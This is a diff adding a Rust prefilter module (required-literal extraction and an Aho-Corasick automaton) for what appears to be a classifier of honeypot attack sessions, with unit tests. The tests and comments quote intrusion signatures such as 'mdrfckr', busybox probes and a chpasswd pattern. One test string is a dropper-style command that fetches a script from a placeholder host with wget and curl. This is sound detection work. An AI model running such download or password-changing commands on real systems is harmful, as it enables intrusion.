@@ -1,0 +1,324 @@
+//! Multi-pattern literal prefiltering.
+//!
+//! The Table 1 classifier asks "which of 58 patterns matches this
+//! command?" for every command-execution session. Running 58 backtracking
+//! searches per command is the honest answer and the slow one: most rules
+//! can be ruled out by a single substring test, because their patterns
+//! contain *required literals* — byte sequences that must appear in any
+//! haystack the pattern matches (`mdrfckr`, `uname`, `/bin/busybox`, …).
+//!
+//! This module provides the two halves of that shortcut:
+//!
+//! * [`required_literals`] walks a pattern's AST and extracts required
+//!   literals (see the function docs for exactly which shapes yield them);
+//! * [`AhoCorasick`] is a byte-level multi-pattern automaton that finds,
+//!   in one linear pass over the haystack, which of *all* rules' literals
+//!   occur.
+//!
+//! [`crate::RegexSet`] combines them: one automaton pass produces a
+//! candidate-rule mask, and only candidate rules pay for the backtracking
+//! VM.
+
+use crate::ast::Ast;
+
+/// Literals shorter than this are discarded: a 1-byte "required literal"
+/// is present in almost every command line and filters nothing.
+pub const MIN_LITERAL_LEN: usize = 2;
+
+/// At most this many required literals are kept per pattern (the longest
+/// ones, which are the most selective). Purely a size bound — dropping a
+/// required literal only ever *weakens* the filter, never breaks it.
+const MAX_LITERALS_PER_PATTERN: usize = 8;
+
+/// Extracts required literals from a parsed pattern: byte strings that
+/// appear in **every** haystack the pattern matches. The prefilter may
+/// therefore skip the pattern whenever any extracted literal is absent.
+///
+/// Shapes that yield literals:
+///
+/// * runs of adjacent [`Ast::Byte`] nodes inside concatenations (escapes
+///   like `\x6F` and `\.` parse to plain bytes and join runs);
+/// * grouping `(…)` is transparent — `a(bc)d` yields `abcd`;
+/// * zero-width assertions (`^`, `$`, `\b`, `\B`) are transparent too:
+///   they consume nothing, so the bytes on either side remain adjacent in
+///   any match;
+/// * positive lookahead bodies: `(?=.*curl)` requires `curl` somewhere at
+///   or after the assertion point, hence somewhere in the haystack;
+/// * repetitions with `min ≥ 1` require at least one copy of their body.
+///
+/// Shapes that yield nothing (and cut the current run):
+///
+/// * alternations: `wget|curl` requires *either* literal, and the
+///   candidate mask models a conjunction per rule, so an alternation top
+///   contributes no single required literal;
+/// * `.`/character classes, optional (`min = 0`) repetitions, and
+///   negative lookaheads, none of which pin down concrete bytes.
+pub fn required_literals(ast: &Ast) -> Vec<Vec<u8>> {
+    let mut out = Vec::new();
+    let mut run = Vec::new();
+    walk(ast, &mut run, &mut out);
+    flush(&mut run, &mut out);
+    out.sort_by(|a, b| b.len().cmp(&a.len()).then_with(|| a.cmp(b)));
+    out.dedup();
+    out.truncate(MAX_LITERALS_PER_PATTERN);
+    out
+}
+
+fn flush(run: &mut Vec<u8>, out: &mut Vec<Vec<u8>>) {
+    if run.len() >= MIN_LITERAL_LEN {
+        out.push(std::mem::take(run));
+    } else {
+        run.clear();
+    }
+}
+
+fn walk(ast: &Ast, run: &mut Vec<u8>, out: &mut Vec<Vec<u8>>) {
+    match ast {
+        Ast::Byte(b) => run.push(*b),
+        // Zero-width: bytes before and after stay adjacent in any match.
+        Ast::Empty | Ast::StartAnchor | Ast::EndAnchor | Ast::WordBoundary(_) => {}
+        Ast::Concat(parts) => {
+            for p in parts {
+                walk(p, run, out);
+            }
+        }
+        Ast::Group(inner) => walk(inner, run, out),
+        Ast::Lookahead {
+            positive: true,
+            node,
+        } => {
+            // The body asserts a match at the current position; its own
+            // required literals must appear in the haystack. Its bytes do
+            // not concatenate with the surrounding run, though — the
+            // pattern resumes at the assertion point, not after the body.
+            flush(run, out);
+            let mut inner_run = Vec::new();
+            walk(node, &mut inner_run, out);
+            flush(&mut inner_run, out);
+        }
+        Ast::Repeat { node, min, .. } if *min >= 1 => {
+            // At least one copy of the body is mandatory.
+            flush(run, out);
+            let mut inner_run = Vec::new();
+            walk(node, &mut inner_run, out);
+            flush(&mut inner_run, out);
+        }
+        // Unpinnable shapes: alternation (either branch suffices), any
+        // byte / classes (no concrete byte), optional repeats, negative
+        // lookaheads.
+        Ast::Alternate(_)
+        | Ast::AnyByte
+        | Ast::Class { .. }
+        | Ast::Repeat { .. }
+        | Ast::Lookahead { .. } => flush(run, out),
+    }
+}
+
+// --- Aho-Corasick ---------------------------------------------------------
+
+/// A byte-level Aho-Corasick automaton with a dense transition table:
+/// one table lookup per haystack byte, no failure-link chasing at scan
+/// time. Built once per [`crate::RegexSet`]; sized by the total literal
+/// bytes across all rules (a few hundred states for Table 1).
+#[derive(Debug, Clone)]
+pub struct AhoCorasick {
+    /// `trans[state][byte]` → next state. State 0 is the root.
+    trans: Vec<[u32; 256]>,
+    /// Pattern ids recognised on entering each state (failure closure
+    /// already folded in).
+    out: Vec<Vec<u32>>,
+}
+
+impl AhoCorasick {
+    /// Builds the automaton over `patterns`. Pattern ids are the indices
+    /// into `patterns`; empty patterns are ignored.
+    pub fn new<P: AsRef<[u8]>>(patterns: &[P]) -> Self {
+        // Trie construction.
+        let mut trans: Vec<[u32; 256]> = vec![[u32::MAX; 256]];
+        let mut out: Vec<Vec<u32>> = vec![Vec::new()];
+        for (id, pat) in patterns.iter().enumerate() {
+            let pat = pat.as_ref();
+            if pat.is_empty() {
+                continue;
+            }
+            let mut s = 0usize;
+            for &b in pat {
+                let next = trans[s][b as usize];
+                s = if next == u32::MAX {
+                    trans.push([u32::MAX; 256]);
+                    out.push(Vec::new());
+                    let n = (trans.len() - 1) as u32;
+                    trans[s][b as usize] = n;
+                    n as usize
+                } else {
+                    next as usize
+                };
+            }
+            out[s].push(id as u32);
+        }
+        // BFS failure computation, densifying transitions as we go: after
+        // this loop every `trans[s][b]` is a real state.
+        let mut fail: Vec<u32> = vec![0; trans.len()];
+        let mut queue: std::collections::VecDeque<u32> = std::collections::VecDeque::new();
+        for slot in trans[0].iter_mut() {
+            match *slot {
+                u32::MAX => *slot = 0,
+                v => {
+                    fail[v as usize] = 0;
+                    queue.push_back(v);
+                }
+            }
+        }
+        while let Some(u) = queue.pop_front() {
+            let u = u as usize;
+            let fail_row = trans[fail[u] as usize];
+            for (slot, &via_fail) in trans[u].iter_mut().zip(fail_row.iter()) {
+                let v = *slot;
+                if v == u32::MAX {
+                    *slot = via_fail;
+                } else {
+                    fail[v as usize] = via_fail;
+                    let inherited = out[via_fail as usize].clone();
+                    out[v as usize].extend(inherited);
+                    queue.push_back(v);
+                }
+            }
+        }
+        Self { trans, out }
+    }
+
+    /// Number of automaton states.
+    pub fn states(&self) -> usize {
+        self.trans.len()
+    }
+
+    /// Scans `haystack` once, setting `hits[id] = true` for every pattern
+    /// id found as a substring. `hits` must be at least as long as the
+    /// pattern list the automaton was built over.
+    pub fn scan(&self, haystack: &[u8], hits: &mut [bool]) {
+        let mut s = 0usize;
+        for &b in haystack {
+            s = self.trans[s][b as usize] as usize;
+            for &id in &self.out[s] {
+                hits[id as usize] = true;
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::parser::parse;
+
+    fn lits(pattern: &str) -> Vec<String> {
+        required_literals(&parse(pattern).unwrap())
+            .into_iter()
+            .map(|l| String::from_utf8_lossy(&l).into_owned())
+            .collect()
+    }
+
+    #[test]
+    fn plain_literal_is_required() {
+        assert_eq!(lits("mdrfckr"), vec!["mdrfckr"]);
+    }
+
+    #[test]
+    fn escapes_join_runs() {
+        // `update\.sh` — the escaped dot is a plain byte.
+        assert_eq!(lits(r"update\.sh"), vec!["update.sh"]);
+        assert_eq!(lits(r"\x45\x4c\x46"), vec!["ELF"]);
+    }
+
+    #[test]
+    fn zero_width_assertions_are_transparent() {
+        assert_eq!(lits(r"\becho\b"), vec!["echo"]);
+        assert_eq!(lits(r"^root$"), vec!["root"]);
+    }
+
+    #[test]
+    fn classes_and_dots_cut_runs() {
+        assert_eq!(lits(r"uname\s+-s\s+-v"), vec!["uname", "-s", "-v"]);
+        assert_eq!(lits(r"a.b"), Vec::<String>::new()); // runs too short
+        assert_eq!(
+            lits(r"root:[A-Za-z0-9]{15,}\|chpasswd"),
+            vec!["|chpasswd", "root:"]
+        );
+    }
+
+    #[test]
+    fn lookahead_bodies_contribute() {
+        let mut got = lits(r"(?=.*curl)(?=.*wget)");
+        got.sort();
+        assert_eq!(got, vec!["curl", "wget"]);
+    }
+
+    #[test]
+    fn negative_lookahead_contributes_nothing() {
+        assert_eq!(lits(r"(?!.*curl)"), Vec::<String>::new());
+        assert_eq!(lits(r"(?!.*curl)wget"), vec!["wget"]);
+    }
+
+    #[test]
+    fn alternation_tops_are_unextractable() {
+        assert_eq!(lits("wget|curl"), Vec::<String>::new());
+        assert_eq!(lits(r"/bin/busybox\s|busybox\s"), Vec::<String>::new());
+    }
+
+    #[test]
+    fn mandatory_repeats_require_one_copy() {
+        assert_eq!(lits("(abc)+"), vec!["abc"]);
+        assert_eq!(lits("(abc)*"), Vec::<String>::new());
+        assert_eq!(lits("(abc)?x"), Vec::<String>::new()); // runs too short
+    }
+
+    #[test]
+    fn groups_are_transparent() {
+        assert_eq!(lits("a(bc)d"), vec!["abcd"]);
+    }
+
+    #[test]
+    fn ac_finds_all_present_patterns() {
+        let pats: Vec<&[u8]> = vec![b"curl", b"wget", b"busybox", b"mdrfckr"];
+        let ac = AhoCorasick::new(&pats);
+        let mut hits = vec![false; pats.len()];
+        ac.scan(
+            b"cd /tmp; wget http://x/a.sh; curl -O http://x/a.sh",
+            &mut hits,
+        );
+        assert_eq!(hits, vec![true, true, false, false]);
+    }
+
+    #[test]
+    fn ac_handles_overlapping_and_nested_patterns() {
+        // "he", "she", "his", "hers" — the textbook example.
+        let pats: Vec<&[u8]> = vec![b"he", b"she", b"his", b"hers"];
+        let ac = AhoCorasick::new(&pats);
+        let mut hits = vec![false; pats.len()];
+        ac.scan(b"ushers", &mut hits);
+        assert_eq!(hits, vec![true, true, false, true]);
+        let mut hits = vec![false; pats.len()];
+        ac.scan(b"his", &mut hits);
+        assert_eq!(hits, vec![false, false, true, false]);
+    }
+
+    #[test]
+    fn ac_is_byte_exact() {
+        let pats: Vec<Vec<u8>> = vec![b"\xff\x00ab".to_vec()];
+        let ac = AhoCorasick::new(&pats);
+        let mut hits = vec![false; 1];
+        ac.scan(b"xx\xff\x00abyy", &mut hits);
+        assert!(hits[0]);
+        let mut hits = vec![false; 1];
+        ac.scan(b"xx\xff\x01abyy", &mut hits);
+        assert!(!hits[0]);
+    }
+
+    #[test]
+    fn ac_empty_pattern_set() {
+        let ac = AhoCorasick::new(&Vec::<Vec<u8>>::new());
+        let mut hits: Vec<bool> = Vec::new();
+        ac.scan(b"anything", &mut hits);
+        assert_eq!(ac.states(), 1);
+    }
+}
